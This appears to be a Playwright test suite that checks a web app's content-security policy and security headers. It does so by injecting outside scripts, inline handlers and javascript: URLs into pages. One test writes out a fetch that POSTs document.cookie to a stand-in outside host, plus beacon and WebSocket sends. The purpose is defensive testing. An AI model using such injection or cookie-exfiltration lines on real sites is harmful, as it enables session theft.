"""Under the content-security policy every page works as before, and what is not ours is refused by the browser."""

import urllib.error
import urllib.request

import pytest
from playwright.sync_api import Frame, Page, expect

from tests.browser.driver import map_frame, wait_until_idle
from tests.browser.map_page import SLOW, open_map
from tests.often import often_enough

WATCH = """
window.refused = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.refused.push([event.effectiveDirective, event.blockedURI]);
});
"""
ELSEWHERE = "https://elsewhere.example"
INSERT = """
([tag, attributes]) => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element[name] = value;
  document.body.append(element);
}
"""
# What a hole in a page would be used for, and the rule that it breaks.
ATTACKS = {
    "an outside script": ("script", {"src": f"{ELSEWHERE}/x.js"}, "script-src-elem"),
    "an outside picture": ("img", {"src": f"{ELSEWHERE}/x.png"}, "img-src"),
    "an outside page": ("iframe", {"src": f"{ELSEWHERE}/"}, "frame-src"),
    "an outside style": ("link", {"rel": "stylesheet", "href": f"{ELSEWHERE}/x.css"}, "style-src-elem"),
    "an object": ("object", {"data": f"{ELSEWHERE}/x"}, "object-src"),
    "another base": ("base", {"href": f"{ELSEWHERE}/"}, "base-uri"),
}
INLINE = {
    "an inline script": ("script", {"textContent": "window.hacked = 1"}, "script-src-elem"),
    "a handler": ("div", {"innerHTML": "<img src=data:, onerror='window.hacked = 2'>"}, "script-src-attr"),
    "a script for an address": ("iframe", {"src": "javascript:parent.hacked = 3"}, "script-src-elem"),
}
PAGES = {
    "map": "place=ma-lu-thang",
    "timeline": "",
    "gates": "",
    "gates?": "place=ma-lu-thang",
    "cooperation": "",
    "data": "",
}


@pytest.fixture
def watched(page: Page) -> Page:
    page.add_init_script(WATCH)
    return page


def refused(frame: Page | Frame) -> list[list[str]]:
    return frame.evaluate("() => window.refused")


@pytest.mark.parametrize("name", often_enough(list(PAGES), 2))
def test_no_page_breaks_a_rule_of_its_own(name, watched, app, outside_requests):
    watched.goto(f"{app}/{name.rstrip('?')}?{PAGES[name]}")
    expect(watched.locator(".gm-brand")).to_be_visible(timeout=SLOW)
    wait_until_idle(watched)
    assert [refused(frame) for frame in watched.frames] == [[]] * len(watched.frames)
    assert outside_requests == []


def test_map_charts_and_own_scripts_run(watched, app, console_errors):
    open_map(watched, app)
    assert map_frame(watched).locator(".leaflet-interactive").count() > 50
    brush = watched.locator("g.period_brush_bg").first
    expect(brush).to_have_attribute("aria-hidden", "true")
    assert refused(watched) == console_errors == []


def test_what_is_not_ours_does_not_come_into_a_page(watched, app, outside_requests):
    open_map(watched, app)
    for name, (tag, attributes, rule) in (ATTACKS | INLINE).items():
        watched.evaluate("() => { window.refused = []; }")
        watched.evaluate(INSERT, [tag, attributes])
        watched.wait_for_function("() => window.refused.length > 0")
        assert {found for found, _ in refused(watched)} == {rule}, name
    assert outside_requests == [] and watched.evaluate("() => window.hacked") is None


def test_what_is_not_ours_does_not_come_into_the_map(watched, app, outside_requests):
    open_map(watched, app)
    frame = map_frame(watched)
    for tag, attributes, _ in ATTACKS.values():
        with watched.expect_console_message(lambda message: "Content Security Policy" in message.text):
            frame.evaluate(INSERT, [tag, attributes])
    assert outside_requests == []


def test_a_page_can_send_nothing_elsewhere(watched, app, outside_requests):
    open_map(watched, app)
    for send in (
        f"fetch('{ELSEWHERE}/x', {{ method: 'POST', body: document.cookie, mode: 'no-cors' }}).catch(() => 0)",
        f"navigator.sendBeacon('{ELSEWHERE}/x', 'y')",
        f"try {{ new WebSocket('{ELSEWHERE.replace('https', 'wss')}/x') }} catch {{}}",
    ):
        watched.evaluate(f"() => {{ window.refused = []; {send}; }}")
        watched.wait_for_function("() => window.refused.length > 0")
        assert {found for found, _ in refused(watched)} == {"connect-src"}
    assert outside_requests == []


@pytest.mark.parametrize(
    "path",
    [
        "",
        "timeline",
        "static/nothing.js",
        "component/gatemap.ui.map_component.leaflet/leaflet.js",
        "_stcore/health",
        "nowhere",
    ],
)
def test_every_answer_carries_the_headers(path, app):
    try:
        headers = urllib.request.urlopen(f"{app}/{path}").headers
    except urllib.error.HTTPError as problem:
        headers = problem.headers
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "same-origin"
    assert "script-src 'self'" in headers["content-security-policy"]
    assert "camera=()" in headers["permissions-policy"]
